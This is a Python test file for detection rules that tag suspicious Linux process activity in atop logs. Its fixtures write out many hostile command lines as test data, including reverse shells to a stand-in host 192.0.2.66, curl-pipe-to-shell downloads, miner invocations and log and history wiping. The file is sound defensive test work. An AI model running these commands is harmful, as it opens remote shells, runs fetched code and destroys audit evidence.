#!/usr/bin/env python3
"""Tests for the tagging rules."""

import os
import re
import tempfile
import time
import unittest

from plaso.cli.helpers import tagging_analysis
from plaso.analysis import tagging
from plaso.containers import events
from plaso.engine import tagging_file
from plaso.lib import errors

from plaso_atop import hooks
from plaso_atop import integration
from plaso_atop import parser
from plaso_atop.plugins import process

from tests.lib import end_to_end
import log_builder
from tests.lib import test_lib


def Process(command_line=None, process_name=None, **attributes):
    """Makes a process as the plugin does.

    Args:
      command_line (Optional[str]): command line.
      process_name (Optional[str]): name of the program, by default that of the command
          line.
      attributes (dict[str, object]): values of other attributes.

    Returns:
      AtopProcessEventData: event data.
    """
    return _SetAttributes(
        process.AtopProcessEventData(), command_line, process_name, attributes
    )


def Change(command_line=None, process_name=None, **attributes):
    """Makes a change of a process as the plugin does.

    Args:
      command_line (Optional[str]): command line.
      process_name (Optional[str]): name of the program, by default that of the command
          line.
      attributes (dict[str, object]): values of other attributes.

    Returns:
      AtopProcessChangeEventData: event data.
    """
    return _SetAttributes(
        process.AtopProcessChangeEventData(), command_line, process_name, attributes
    )


def _SetAttributes(event_data, command_line, process_name, attributes):
    """Sets attributes of event data.

    Args:
      event_data (EventData): event data.
      command_line (str): command line or None if not set.
      process_name (str): name of the program or None if that of the command line.
      attributes (dict[str, object]): values of other attributes.

    Returns:
      EventData: event data.

    Raises:
      AttributeError: if the event data has no such attribute.
    """
    if process_name is None and command_line:
        process_name = os.path.basename(command_line.partition(" ")[0])

    attributes = {
        "command_line": command_line,
        "process_name": process_name and process_name[:15],
        **attributes,
    }
    for name, value in attributes.items():
        # Raises where a rule asks for an attribute that no event has.
        getattr(event_data, name)
        setattr(event_data, name, value)

    return event_data


# What every rule must match and what it must not, in the order of the rules.
CASES = {
    "application_execution": [
        (
            [
                Process("/usr/sbin/sshd -D", pid=812, ppid=1),
                # Only known by its exit.
                Process(process_name="ls", pid=4711),
                # A program that the kernel started.
                Process("/sbin/modprobe -q -- fs-xfs", pid=4712, ppid=2),
            ],
            [
                Process(process_name="kthreadd", pid=2, ppid=0),
                Process(process_name="kworker/0:1", pid=17, ppid=2),
                Change("sleep 1", pid=812),
            ],
        ),
        (
            [
                Change(
                    "/usr/bin/id",
                    previous_command_line="-bash",
                    previous_process_name="bash",
                )
            ],
            [
                Change("nginx: master process", previous_command_line="nginx"),
                Change("x", "y", previous_process_name="x"),
                Process("/usr/bin/id"),
            ],
        ),
    ],
    "kernel_thread_masquerading": [
        (
            [
                Process("/usr/lib/.x/a", "kworker/0:0"),
                Process("kdevtmpfsi", ppid=1),
                Change("/tmp/x", "kswapd0", previous_process_name="x"),
            ],
            [
                Process(process_name="kworker/0:0", ppid=2),
                Process("/bin/sh /usr/sbin/ksmtuned"),
                Process("/usr/sbin/watchdog"),
                Process("ls /kworker", "ls"),
                Process("x", "mykworker/0"),
            ],
        ),
        (
            [
                Process(process_name="kworker/u8:3-ev", ppid=1),
                Process(process_name="kthreadd", ppid=4711),
                Process("x", "ksoftirqd/0", ppid=4711),
            ],
            [
                Process(process_name="kworker/u8:3-ev", ppid=2),
                Process(process_name="kthreadd", ppid=0),
                # The parent is not known.
                Process(process_name="migration/0"),
                Process("-bash", ppid=812),
                Process(process_name="mykworker/0", ppid=812),
                Change("x", "kworker/0:0"),
            ],
        ),
        (
            [
                Process("[kworker/u8:3] 39", "sleep"),
                Change("[kthreadd]", "x", previous_command_line="./x"),
            ],
            [
                Process("[celeryd: worker1]", "celeryd"),
                Process("grep [kworker/u8:3]"),
                Process(process_name="kworker/u8:3", ppid=2),
            ],
        ),
    ],
    "temporary_directory_execution": [
        (
            [
                Process("/tmp/.x/a -c"),
                Process("/var/tmp/a"),
                Process("/dev/shm/a"),
                Change("/tmp/a", previous_command_line="sh"),
            ],
            [
                Process("dd of=/var/tmp/a"),
                Process("ls /tmp/"),
                Process("/home/tmp/a"),
                Process("/tmpfs/a"),
                Process(process_name="a"),
            ],
        ),
        (
            [
                Process("sh /tmp/x.sh"),
                Process("/bin/sh -c /tmp/x"),
                Process("/usr/bin/python3.11 -u -B /dev/shm/x.py"),
                Process("nohup /var/tmp/x"),
                Process("/lib64/ld-linux-x86-64.so.2 /tmp/x"),
            ],
            [
                Process("sh -c dd of=/tmp/x"),
                Process("vi /tmp/x.sh"),
                Process("python3 /opt/x.py /tmp/x"),
                Process("push /tmp/x"),
                Process("bash --rcfile=/tmp/x"),
            ],
        ),
    ],
    "memfd_execution": [
        (
            [
                Process("/proc/self/fd/3", "3"),
                Process("/proc/4711/fd/12 -c", "12"),
                Process("/dev/fd/4"),
                Change("memfd:x", "x"),
            ],
            [
                Process("cat /proc/self/fd/3"),
                Process("/proc/self/exe init"),
                Process("bash /dev/fd/63"),
            ],
        ),
        (
            [Process(process_name="memfd:kernel"), Change("-bash", "memfd:x")],
            [Process("test-memfd:x"), Process()],
        ),
        (
            [Process("/usr/sbin/nginx", "3"), Change("x", "12")],
            [
                Process("runc init", "6"),
                Process("/proc/self/exe init", "6"),
                Process(process_name="6"),
                Process("7z x a.7z"),
                Process("x", "mp3"),
            ],
        ),
    ],
    "privilege_escalation": [
        (
            [Change("./x", became_root=True)],
            [
                Change(
                    "nginx",
                    previous_user_identifier=0,
                    user_identifier=33,
                    username="www-data",
                ),
                # A process of root that took back its rights.
                Change(
                    "smbd",
                    effective_user_identifier=0,
                    previous_effective_user_identifier=1000,
                    username="root",
                ),
                Process("x", user_identifier=0, username="root"),
            ],
        )
    ],
    "download_execution": [
        (
            [
                Process("sh -c curl -s http://192.0.2.66/x.sh | sh"),
                Process("bash -c wget -qO- http://192.0.2.66/x|sudo -E bash -"),
                Process("sh -c (curl -fsSL x || wget -q -O- x)|/bin/bash"),
                Process("sh -c curl x | base64 -d | python3"),
                Change("sh -c curl x|perl", previous_command_line="sshd"),
            ],
            [
                Process("curl -s http://192.0.2.66/x.sh"),
                Process("sh -c curl -s http://x | grep sh"),
                Process("sh -c curl -s http://x | shuf"),
                Process("sh -c cat x.sh | bash"),
                Process("sh -c libcurl | sh"),
            ],
        ),
        (
            [
                Process("bash", parent_command_line="sh -c curl -s x | bash"),
                Process("python3", parent_command_line="sh -c wget -O- x|python3"),
            ],
            [
                Process("curl -s x", parent_command_line="sh -c curl -s x | bash"),
                Process("push", parent_command_line="sh -c curl -s x | sh"),
                Process("shuf", parent_command_line="sh -c curl -s x | sh"),
                Process("sh", parent_command_line="sh -c curl -s x | shuf"),
                Process("sh", parent_command_line="sh -c libcurl -s x | sh"),
                Process("bash", parent_command_line="sshd: alice@pts/0"),
                Process("bash"),
            ],
        ),
        (
            [
                Process('sh -c bash -c "$(curl -fsSL http://x)"', "sh"),
                Process("sh -c eval `wget -qO- x`"),
                Process("sh -c bash <(curl -s x)"),
                Process("bash -c . <(curl -s x)"),
            ],
            [
                Process("sh -c [ $(curl -s x) -eq 200 ]"),
                Process("sh -c ip=$(curl -s ifconfig.me)"),
                Process("sh -c medieval $(curl -s x)"),
                Process("curl -s x"),
            ],
        ),
        (
            [Process("bash /dev/fd/63"), Process("/bin/zsh -s /proc/self/fd/12 x")],
            [
                Process("cat /dev/fd/63"),
                Process("vi bash /dev/fd/63"),
                # A script that the one who started the shell handed over.
                Process("bash /dev/fd/3"),
                Process("bash /dev/fd/630"),
            ],
        ),
        (
            [
                Process("sh -c wget http://x/a -O a; chmod +x a; ./a"),
                Process("sh -c cd /tmp && curl -O x/a && sh a"),
                Process("sh -c curl -o /tmp/a x || /tmp/a"),
            ],
            [
                Process("sh -c wget http://x/a; echo done"),
                Process("wget http://x/chmod"),
                Process("sh -c chmod +x a; ./a"),
                Process("sh -c libcurl x; ./a"),
            ],
        ),
    ],
    "reverse_shell": [
        (
            [
                Process("bash -i >& /dev/tcp/192.0.2.66/443 0>&1"),
                Process("bash -c 0<&9;exec 9<>/dev/tcp/192.0.2.66/443; sh <&9 >&9"),
                Process("sh -c sh -i >& /dev/udp/192.0.2.66/53 0>&1"),
            ],
            [
                Process("bash -c echo > /dev/tcp/mysql/3306"),
                Process("timeout 1 bash -c cat < /dev/null > /dev/tcp/mysql/3306"),
                Process("bash -c exec 3<>/dev/tcp/127.0.0.1/80; echo x >&3; cat <&3"),
                Process("bash -i"),
            ],
        ),
        (
            [
                Process("nc -e /bin/sh 192.0.2.66 443"),
                Process("/usr/bin/ncat 192.0.2.66 443 --exec /bin/bash"),
                Process("nc.traditional -lvp 4444 -e bash"),
                Process("sh -c nc -c sh 192.0.2.66 443"),
            ],
            [
                Process("nc -z mysql 3306"),
                Process("rsync -e ssh a b:"),
                Process("nc -l 4444"),
                Process("func -e sh"),
            ],
        ),
        (
            [
                Process("sh -c mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.66 443"),
                Process("sh -c mkfifo s; sh -i < s | openssl s_client -connect x:443"),
            ],
            [
                Process("mkfifo /run/x"),
                Process("nc 192.0.2.66 443"),
                Process("sh -c mkfifo a; rsync a b"),
            ],
        ),
        (
            [
                Process("sh -c telnet 192.0.2.66 443 | /bin/sh | telnet x 444"),
                Process("sh -c nc 192.0.2.66 443|bash"),
            ],
            [
                Process("sh -c nc x 80 | grep sh"),
                Process("telnet x"),
                Process("sync a | sh"),
            ],
        ),
        (
            [
                Process("socat TCP:192.0.2.66:443 EXEC:/bin/bash,pty,stderr"),
                Process("sh -c socat exec:sh tcp-listen:4444"),
            ],
            [
                Process("socat TCP-LISTEN:80 TCP:x:80"),
                Process("socat - EXEC:ssh"),
                Process("bash exec:sh"),
                Process("xsocat exec:sh"),
            ],
        ),
        (
            [Process('gawk BEGIN {s = "/inet/tcp/0/192.0.2.66/443"; while (1) {}}')],
            [Process("awk {print $1}"), Process("ls /inet/tcp/")],
        ),
        (
            [
                Process("python3 -c import socket,subprocess,os;s=socket.socket()"),
                Process("python -c import pty,os;import socket;s=socket.socket()"),
                Process('perl -e use Socket;socket(S,2,1,6);exec("/bin/sh -i");'),
                Process('php -r $s=fsockopen("192.0.2.66",443);exec("sh <&3");'),
                Process("/usr/bin/ruby -rsocket -e spawn('sh')"),
                Process("ruby -e s=TCPSocket.new('x',443);spawn('sh')"),
            ],
            [
                Process('python3 -c import socket; s.connect(("localhost", 80))'),
                Process("python3 /opt/socket/spawn.py"),
                Process("python3 -c import subprocess"),
                Process("grep python -e socket.*spawn"),
            ],
        ),
        (
            [
                Process("/bin/sh -i", parent_process_name="python3"),
                Process("bash -i", parent_process_name="nc"),
            ],
            [
                Process("bash -i", parent_process_name="sshd"),
                Process("bash -i"),
                Process("bash", parent_process_name="nc"),
                Process("bash -i", parent_process_name="rsync"),
                Process("vi sh -i", parent_process_name="nc"),
                Change("bash -i"),
            ],
        ),
    ],
    "pty_spawn": [
        (
            [
                Process('python3 -c import pty;pty.spawn("/bin/bash")'),
                Process("perl -MIO::Pty -e x"),
                Change("ruby -rpty -e PTY.spawn('sh')", previous_command_line="x"),
            ],
            [Process("python3 -m pty"), Process("bash"), Process()],
        ),
        (
            [
                Process("script -qc /bin/bash /dev/null"),
                Process("/usr/bin/script /dev/null -c bash"),
            ],
            [
                Process("script typescript"),
                Process("sh script > /dev/null"),
                Process("myscript /dev/null"),
            ],
        ),
    ],
    "cryptominer": [
        (
            [
                Process("./xmrig -c config.json"),
                Process(process_name="kinsing"),
                Process(process_name="T-Rex"),
            ],
            [
                Process("vi xmrig.json"),
                Process(process_name="xml"),
                Process(process_name="axmrig"),
                Process("pkill xmrig"),
            ],
        ),
        (
            [
                Process("./a -o stratum+tcp://pool.example:3333 -u x"),
                Change("x STRATUM+SSL://x", previous_command_line="y"),
                Process("a stratum://x"),
            ],
            [Process("chronyc stratum"), Process("vi stratum+tcp")],
        ),
        (
            [
                Process("./a -o gulf.MoneroOcean.stream:10128"),
                Process("./a --url=xmr.2miners.com:2222"),
            ],
            [Process("vi moneroocean"), Process("./a -o pool.example:3333")],
        ),
        (
            [
                Process("./a --donate-level 1"),
                Process("./a --coin=monero"),
                Process("./a --randomx-1gb-pages"),
            ],
            [Process("./coin"), Process("./a --coins"), Process("a-donate-level 1")],
        ),
    ],
    "sustained_cpu_usage": [
        (
            [Process("./a", sustained_cpu_seconds=3600)],
            [
                Process("gcc", sustained_cpu_seconds=3599),
                Process("sleep", sustained_cpu_seconds=0),
                Process("sleep"),
            ],
        )
    ],
    "log_removal": [
        (
            [
                Process("rm -rf /var/log/apache2"),
                Process("/usr/bin/shred -u /var/log/auth.log"),
                Process("sh -c cd /; truncate -s 0 /var/log/wtmp"),
                Process("rm /var/run/utmp"),
            ],
            [
                Process("ls /var/log"),
                Process("rm /tmp/x"),
                Process("sh -c rm x; cat /var/log/syslog"),
                Process("sh -c alarm /var/log/syslog"),
            ],
        ),
        (
            [
                Process("cp /dev/null /var/log/wtmp"),
                Process("sh -c cat /dev/null > /var/log/auth.log"),
                Process("dd if=/dev/zero of=/var/log/wtmp"),
                Process("ln -sf /dev/null /var/log/lastlog"),
            ],
            [
                Process("sh -c x > /dev/null; ls /var/log"),
                Process("cat /var/log/syslog"),
                Process("sh -c grep x /var/log/syslog > /dev/null"),
            ],
        ),
        (
            [
                Process("sh -c > /var/log/auth.log"),
                Process("bash -c : >/var/log/wtmp"),
                Process('sh -c id; echo "" > /var/log/lastlog'),
                Process("bash -c echo -n>/run/utmp"),
            ],
            [
                Process("sh -c echo started > /var/log/x.log"),
                Process("sh -c /usr/sbin/x > /var/log/x.log"),
                Process("sh -c echo >> /var/log/x.log"),
            ],
        ),
        (
            [
                Process("sed -i /192.0.2.66/d /var/log/auth.log"),
                Process("sed -e x --in-place /var/log/auth.log"),
            ],
            [
                Process("sed /x/d /var/log/auth.log"),
                Process("sed -i x /etc/hosts"),
                Process("used -i /var/log/x"),
            ],
        ),
        (
            [
                Process("find /var/log -name *.gz -delete"),
                Process("find /var/log -type f -exec rm {} ;"),
                Process("find -L /var/log -exec /usr/bin/shred {} ;"),
            ],
            [
                Process("find /var/log -name x"),
                Process("xfind /var/log -delete"),
                Process("find /tmp -delete"),
                Process("find /var/log -exec ls {} ;"),
            ],
        ),
        (
            [Process("journalctl --rotate --vacuum-time=1s")],
            [Process("journalctl -u ssh"), Process("myjournalctl --vacuum-x")],
        ),
    ],
    "history_removal": [
        (
            [
                Process("rm -f /root/.bash_history"),
                Process("shred .zsh_history"),
                Process("ln -sf /dev/null /home/alice/.mysql_history"),
                Process("sh -c id;rm ~/.viminfo"),
            ],
            [
                Process("cat /root/.bash_history"),
                Process("sh -c rm x; cat .bash_history"),
                Process("rm bash_history.txt"),
                Process("alarm .bash_history"),
                Process("vim .bash_history"),
            ],
        ),
        (
            [
                Process("sh -c cat /dev/null > ~/.bash_history"),
                Process("sh -c echo > /root/.bash_history"),
                Process("cp /dev/null .zsh_history"),
            ],
            [
                Process("sh -c echo x >> ~/.bash_history"),
                Process("less /root/.bash_history"),
                Process("sh -c cat .bash_history > /tmp/x"),
            ],
        ),
        (
            [
                Process("bash -c history -c; history -w"),
                Process("bash -ic history -wc"),
            ],
            [
                Process("bash -c history"),
                Process("bash -c history -w"),
                Process("/opt/myhistory -c"),
            ],
        ),
        (
            [
                Process("bash -c unset HISTFILE; id"),
                Process("bash -c unset -v HISTSIZE"),
                Process("bash -c set +o history"),
            ],
            [
                Process("bash -c unset HISTTIMEFORMAT"),
                Process("bash -c set -o history"),
                Process("grep reunset HISTFILE", "grep"),
                Process("reunset HISTFILE"),
            ],
        ),
        (
            [
                Process("env HISTFILE=/dev/null bash"),
                Process("bash -c export HISTFILE=; id"),
                Process("env HISTSIZE=0 sh"),
                Process("sh -c HISTFILESIZE=0"),
            ],
            [
                Process("env HISTFILE=/root/.h bash"),
                Process("env HISTSIZE=0100000 sh"),
                Process("env HISTSIZE=1000 sh"),
                Process("env MYHISTSIZE=0 sh"),
            ],
        ),
    ],
    "logging_disabled": [
        (
            [
                Process("systemctl stop rsyslog"),
                Process("/usr/bin/systemctl --now disable auditd.service"),
                Process("systemctl mask systemd-journald"),
                Process("systemctl stop atop"),
            ],
            [
                Process("systemctl restart rsyslog"),
                Process("systemctl stop apache2"),
                Process("systemctl status atop"),
                Process("xsystemctl stop atop"),
            ],
        ),
        (
            [Process("service auditd stop"), Process("/etc/init.d/rsyslog stop")],
            [
                Process("service ssh stop"),
                Process("xservice auditd stop"),
                Process("service rsyslog restart"),
                Process("/etc/init.d/rsyslog start"),
            ],
        ),
        (
            [Process("pkill -9 rsyslogd"), Process("killall auditd")],
            [Process("pkill nginx"), Process("xpkill auditd"), Process("ls killall")],
        ),
        (
            [Process("auditctl -e 0"), Process("/sbin/auditctl -D")],
            [Process("auditctl -l"), Process("auditctl -e 1"), Process("xauditctl -D")],
        ),
        (
            [Process("setenforce 0"), Process("/usr/sbin/setenforce Permissive")],
            [Process("setenforce 1"), Process("getenforce"), Process("xsetenforce 0")],
        ),
        (
            [Process("/usr/sbin/accton"), Process("accton off")],
            [
                Process("accton /var/log/account/pacct"),
                Process("accton on"),
                Process("macton"),
            ],
        ),
    ],
    "library_preload": [
        (
            [
                Process("vi /etc/ld.so.preload"),
                Process("sh -c echo /lib/x.so >> /etc/ld.so.preload"),
            ],
            [Process("vi /etc/ld.so.conf"), Process()],
        ),
        (
            [
                Process("env LD_PRELOAD=/tmp/x.so ls"),
                Process("sh -c LD_LIBRARY_PATH=/dev/shm/a ls"),
                Process("env LD_PRELOAD=/usr/lib/.x/a.so ls"),
            ],
            [
                Process("env LD_PRELOAD=/usr/lib/libjemalloc.so redis-server"),
                Process("env LD_PRELOAD= ls /tmp/x"),
            ],
        ),
    ],
    "network_tunnel": [
        (
            [
                Process("ssh -N -R 8080:localhost:22 x@192.0.2.66"),
                Process("/usr/bin/ssh -fND 1080 x"),
                Process("ssh -D127.0.0.1:1080 x"),
                Process("autossh -M 0 -R *:2222:localhost:22 x"),
            ],
            [
                Process("ssh -p 22 alice@x"),
                Process("ssh x ls -R /var"),
                Process("ssh -L 5432:localhost:5432 x"),
                Process("vi ssh -R 1"),
                Process("/usr/sbin/sshd -D 1"),
            ],
        ),
        (
            [
                Process("/usr/bin/ssh -o RemoteForward=8080 x"),
                Process("ssh -oDynamicForward=1080 x"),
            ],
            [Process("ssh -o LocalForward=1 x"), Process("vi ssh RemoteForward")],
        ),
        (
            [Process("./Chisel client x R:socks"), Process(process_name="frpc")],
            [Process("vi chisel"), Process("frp"), Process("achisel")],
        ),
    ],
    "encoded_command": [
        (
            [
                Process("sh -c echo aWQ= | base64 -d | sh"),
                Process("bash -c echo aWQ=|base64 --decode|/bin/bash -i"),
                Process("sh -c openssl enc -base64 -d -in x | python3"),
                Process("sh -c xxd -r -p x|bash"),
            ],
            [
                Process("sh -c echo aWQ= | base64 -d > x"),
                Process("sh -c x=$(echo $P | base64 -d) y"),
                Process("sh -c base64 x | sh"),
                Process("sh -c base64 -d x | shuf"),
            ],
        ),
        (
            [
                Process("sh -c eval $(echo aWQ= | base64 -d)"),
                Process("bash -c bash <(echo aWQ=|base64 -d)"),
                Process("bash -c bash <<< $(base64 --decode x)"),
            ],
            [
                Process("sh -c x=$(echo $P | base64 -d) y"),
                Process("bash -c eval x"),
                Process("base64 -d x"),
            ],
        ),
        (
            [
                Process("/bin/python3 -c import base64;exec(base64.b64decode(''))"),
                Process("perl -MMIME::Base64 -e eval(decode_base64('eA=='))"),
                Process("php -r SYSTEM(base64_decode('aWQ='));"),
            ],
            [
                Process("python3 -c print(base64.b64decode('eA=='))"),
                Process("python3 -c exec(x)"),
                Process("python3 exec/b64decode.py"),
                Process("vi python -c exec b64decode"),
            ],
        ),
    ],
    "server_shell": [
        (
            [
                Process("sh -c id", parent_process_name="php-fpm8.2"),
                Process("/bin/bash", parent_process_name="apache2"),
                Process(process_name="sh", parent_process_name="nginx"),
                Process("sh -c id", parent_process_name="mysqld"),
            ],
            [
                Process("sh -c id", parent_process_name="cron"),
                Process(
                    "sh -c /usr/sbin/sendmail -t -i", parent_process_name="php-fpm8.2"
                ),
                Process("/usr/sbin/apache2", parent_process_name="apache2"),
                Process("sh -c id"),
                Process("push", parent_process_name="nginx"),
                Process("shuf", parent_process_name="nginx"),
                Process("sh", parent_process_name="mynginx"),
                Change("sh -c id"),
            ],
        ),
        (
            [
                Process("id", parent_process_name="httpd"),
                Process(process_name="whoami", parent_process_name="apache2"),
                Process("curl -s x", parent_process_name="php-fpm"),
            ],
            [
                Process("id", parent_process_name="bash"),
                Process("idle", parent_process_name="apache2"),
                Process("grid", parent_process_name="apache2"),
                Process("id"),
            ],
        ),
    ],
}


class TaggingTestCase(test_lib.ParserTestCase):
    """The tagging test case."""

    _PATH = os.path.join(test_lib.DATA_PATH, "tag_atop.txt")

    def _GetRules(self, path):
        """Retrieves tagging rules.

        Args:
          path (str): path of a tagging file.

        Returns:
          dict[str, list[EventObjectFilter]]: filters per label.
        """
        return tagging_file.TaggingFile(path).GetEventTaggingRules()

    def _GetLabels(self, rules, event_data):
        """Determines the labels of an event.

        Args:
          rules (dict[str, list[EventObjectFilter]]): filters per label.
          event_data (EventData): event data.

        Returns:
          list[str]: labels.
        """
        event = events.EventObject()
        event.timestamp = 1795225000000000
        event.timestamp_desc = "Start Time"
        return [
            label
            for label, filter_objects in rules.items()
            if any(
                filter_object.Match(event, event_data, None, None)
                for filter_object in filter_objects
            )
        ]

    def _ReadLines(self):
        """Reads the rules one by one.

        Returns:
          dict[str, list[str]]: rules per label.
        """
        lines_per_label = {}
        with open(self._PATH, "r", encoding="utf-8") as file_object:
            for line in file_object:
                if line.strip() and not line.strip().startswith("#"):
                    if line.startswith(" "):
                        lines_per_label[label].append(line.strip())
                    else:
                        label = line.strip()
                        # Of a label that is given twice Plaso keeps the last.
                        self.assertNotIn(label, lines_per_label)
                        lines_per_label[label] = []

        return lines_per_label

    def _WriteFile(self, text, name="tag.txt"):
        """Writes a tagging file in a directory that is removed after the test.

        Args:
          text (str): contents of the file.
          name (Optional[str]): name of the file.

        Returns:
          str: path of the file.
        """
        # pylint: disable=consider-using-with
        temporary_directory = tempfile.TemporaryDirectory()
        self.addCleanup(temporary_directory.cleanup)

        path = os.path.join(temporary_directory.name, name)
        with open(path, "w", encoding="utf-8") as file_object:
            file_object.write(text)

        return path


class RulesTest(TaggingTestCase):
    """Tests of the rules."""

    def testRules(self):
        """Tests every rule by itself on what it must match and what it must not."""
        lines_per_label = self._ReadLines()
        self.assertEqual(list(CASES), list(lines_per_label))

        all_rules = self._GetRules(self._PATH)
        for label, lines in lines_per_label.items():
            self.assertEqual(len(CASES[label]), len(lines), label)
            for line, (hits, misses) in zip(lines, CASES[label]):
                with self.subTest(label=label, line=line):
                    rules = self._GetRules(self._WriteFile(f"{label:s}\n  {line:s}\n"))
                    self.assertTrue(hits and misses)
                    for event_data in hits:
                        values = vars(event_data)
                        self.assertEqual(
                            self._GetLabels(rules, event_data), [label], values
                        )
                        self.assertIn(label, self._GetLabels(all_rules, event_data))
                    for event_data in misses:
                        self.assertEqual(
                            self._GetLabels(rules, event_data), [], vars(event_data)
                        )

    def testOtherEvents(self):
        """Tests that no rule matches what is no process, whatever its attributes."""
        rules = self._GetRules(self._PATH)
        for cases in CASES.values():
            for hits, _ in cases:
                for event_data in hits:
                    for data_type in ("linux:atop:process_activity", "bash:history"):
                        other_event_data = events.EventData(data_type=data_type)
                        other_event_data.CopyFromDict(event_data.CopyToDict())
                        other_event_data.data_type = data_type
                        self.assertEqual(self._GetLabels(rules, other_event_data), [])

    def testNoValues(self):
        """Tests that a value that is missing does not match, whatever the others."""
        rules = self._GetRules(self._PATH)
        self.assertEqual(
            self._GetLabels(rules, process.AtopProcessEventData()),
            ["application_execution"],
        )
        self.assertEqual(
            self._GetLabels(rules, process.AtopProcessChangeEventData()), []
        )

    def testHostileValues(self):
        """Tests that no value makes the rules slow."""
        rules = self._GetRules(self._PATH)
        for text in (
            "curl " * 300,
            "curl |" * 250,
            "curl " + "|" * 1500,
            "curl |" + "a/" * 700,
            "sh " + "-a " * 500,
            "bash -i " + "/dev/tcp/" * 160,
            "nc " * 500,
            "nc " + "-e " * 500,
            "ssh " + "-D " * 500,
            "ssh -" + "D" * 1500,
            "/" * 1530,
            " " * 1530,
            "rm " * 500,
            "sed " + "-i" * 750,
            "sh -c echo" + " " * 1500,
            "base64 -d" * 170,
            "base64 -" + "d" * 1500,
            "eval <<<" * 190,
            "LD_PRELOAD=" * 139,
            "LD_PRELOAD=" + "/" * 1500,
            "find " + "/var/log" * 190,
            "python -" + "socket" * 250,
        ):
            start_time = time.process_time()
            self._GetLabels(
                rules,
                Process(
                    text, "sh", parent_command_line=text, parent_process_name="nginx"
                ),
            )
            self.assertLess(time.process_time() - start_time, 0.5, text[:20])


class CorpusTest(TaggingTestCase):
    """Tests of what the rules tag in real logs."""

    def testLogs(self):
        """Tests that ordinary processes are tagged as executed and nothing else."""
        rules = self._GetRules(self._PATH)
        for log in test_lib.LOGS:
            with self.subTest(log=log.name):
                storage_writer = self._ParseFile(
                    [f"{log.name:s}.raw"], parser.AtopParser()
                )
                number_of_processes = 0
                number_of_executions = 0
                for event_data in self._GetEventData(storage_writer):
                    labels = self._GetLabels(rules, event_data)

                    is_change = event_data.data_type == "linux:atop:process_change"
                    is_process = event_data.data_type == "linux:atop:process"
                    if not is_change and not is_process:
                        self.assertEqual(labels, [])
                        continue

                    # One of the processes pretends to be a thread of the kernel.
                    if (event_data.command_line or "").startswith("[kworker/u8:3-"):
                        self.assertIn("kernel_thread_masquerading", labels)
                        labels.remove("kernel_thread_masquerading")

                    self.assertLessEqual(set(labels), {"application_execution"})
                    if is_process:
                        is_kernel_thread = 2 in (event_data.pid, event_data.ppid)
                        number_of_processes += not is_kernel_thread
                        number_of_executions += bool(labels)
                        if is_kernel_thread:
                            self.assertEqual(labels, [])

                self.assertEqual(number_of_executions, number_of_processes)
                if log.name != "atop-2.8.1-kernel-threads":
                    self.assertGreater(number_of_executions, 10)


class DocumentationTest(TaggingTestCase):
    """Tests of what the README says."""

    def testLabels(self):
        """Tests that the README names all labels."""
        path = os.path.join(test_lib.PROJECT_PATH, "README.md")
        with open(path, "r", encoding="utf-8") as file_object:
            _, _, text = file_object.read().partition("\n## Tags\n")

        labels = re.findall(r"^\| `(\w+)` \|", text.partition("\n## ")[0], re.MULTILINE)
        self.assertEqual(labels, list(CASES))


class MergeTest(TaggingTestCase):
    """Tests of the extensions of Plaso."""

    def testTagLinux(self):
        """Tests that a label of both files has the rules of both."""
        path = self._WriteFile(
            "application_execution\n  reporter is 'sudo'\n\nlogin\n  pid > 0\n",
            name="tag_linux.txt",
        )
        rules = self._GetRules(path)
        self.assertEqual(list(rules)[:2], ["application_execution", "login"])
        self.assertLessEqual(set(CASES), set(rules))

        other_event_data = events.EventData(data_type="syslog:line")
        other_event_data.reporter = "sudo"
        self.assertEqual(
            self._GetLabels(rules, other_event_data), ["application_execution"]
        )
        self.assertIn(
            "application_execution", self._GetLabels(rules, Process("ls", pid=7))
        )
        self.assertNotIn(hooks.TAGGING, hooks.problems)

    def testOtherFile(self):
        """Tests that other files stay as they are."""
        for name in ("tag_windows.txt", "my_tag_linux.txt"):
            path = self._WriteFile("login\n  pid > 0\n", name=name)
            self.assertEqual(list(self._GetRules(path)), ["login"])

    def _ParseOptions(self, tagging_file_name, data_location):
        """Parses the options of the analysis plugin.

        Args:
          tagging_file_name (str): tagging file as given by the user.
          data_location (str): data location.

        Returns:
          list[str]: labels of the rules that the plugin has.
        """
        options = type("Options", (), {})()
        options.data_location = data_location
        options.tagging_file = tagging_file_name

        analysis_plugin = tagging.TaggingAnalysisPlugin()
        tagging_analysis.TaggingAnalysisArgumentsHelper.ParseOptions(
            options, analysis_plugin
        )
        return list(analysis_plugin._tagging_rules)  # pylint: disable=protected-access

    def testName(self):
        """Tests that our file is found by its name, and another of that name first."""
        path = self._WriteFile("mine\n  pid > 0\n", name="tag_atop.txt")
        directory = os.path.dirname(path)
        for data_location in (None, "/nonexistent", test_lib.TEST_DATA_PATH):
            self.assertEqual(
                self._ParseOptions("tag_atop.txt", data_location), list(CASES)
            )
        self.assertEqual(self._ParseOptions("tag_atop.txt", directory), ["mine"])
        self.assertEqual(self._ParseOptions(path, None), ["mine"])

        for name in ("tag_none.txt", "/nonexistent/tag_atop.txt", "", None):
            with self.assertRaises(errors.BadConfigOption):
                self._ParseOptions(name, directory)


class PsortTest(end_to_end.ToolsTestCase):
    """Tests of psort."""

    @classmethod
    def setUpClass(cls):
        """Makes a log and extracts its events."""
        super().setUpClass()
        builder = log_builder.LogBuilder("2.12")
        tasks = [
            {
                "gen.pid": 4000 + index,
                "gen.tgid": 4000 + index,
                "gen.isproc": 1,
                "gen.ppid": 1,
                "gen.btime": 1795225000,
                "gen.state": b"S",
                "gen.name": name,
                "gen.cmdline": command_line,
            }
            for index, (name, command_line) in enumerate(
                (
                    (b"sshd", b"/usr/sbin/sshd -D"),
                    (b"bash", b"bash -i >& /dev/tcp/192.0.2.66/443 0>&1"),
                    (b"kworker/0:0", b"/tmp/.x/a -o stratum+tcp://192.0.2.66:3333"),
                    (b"a", b"./a"),
                )
            )
        ]
        builder.AddSample(1795226000, tasks=tasks)
        tasks[-1]["cpu.utime"] = 350000
        builder.AddSample(1795229600, interval=3600, tasks=tasks)
        source = cls._GetPath("source")
        os.makedirs(source)
        with open(os.path.join(source, "atop_20261121"), "wb") as file_object:
            file_object.write(builder.Build())
        with open(os.path.join(source, "auth.log"), "wb") as file_object:
            file_object.write(
                b"2026-11-21T01:38:20.000000+00:00 host sudo: alice : COMMAND=/bin/ls\n"
                * 3
            )
        cls._source_path = source

    def _GetTags(self, name, *arguments):
        """Tags the events.

        Args:
          name (str): name of the storage file.
          arguments (list[str]): arguments of psort.

        Returns:
          dict[str, set[str]]: labels per command line or program of a log line.
        """
